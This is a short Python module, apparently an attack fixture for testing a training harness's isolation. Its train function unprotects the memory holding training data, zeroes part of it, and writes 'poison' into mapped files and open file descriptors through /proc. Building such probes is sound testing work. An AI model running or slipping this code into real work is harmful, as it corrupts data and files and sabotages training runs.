"""The training data, changed for whoever reads them next, through the map and through /proc."""

import contextlib
import ctypes
import os

from attacks import libc


def train(run):
    (data,) = run.data.values()
    page = data.ctypes.data & ~4095
    if libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(4096), 3) == 0:
        ctypes.memset(ctypes.c_void_p(page), 0, 16)
    for name in os.listdir("/proc/self/map_files") if os.access("/proc/self/map_files", os.R_OK) else ():
        with contextlib.suppress(OSError):
            open(f"/proc/self/map_files/{name}", "r+b").write(b"poison")
    for fd in range(3, 64):
        with contextlib.suppress(OSError):
            open(f"/proc/self/fd/{fd}", "r+b").write(b"poison")
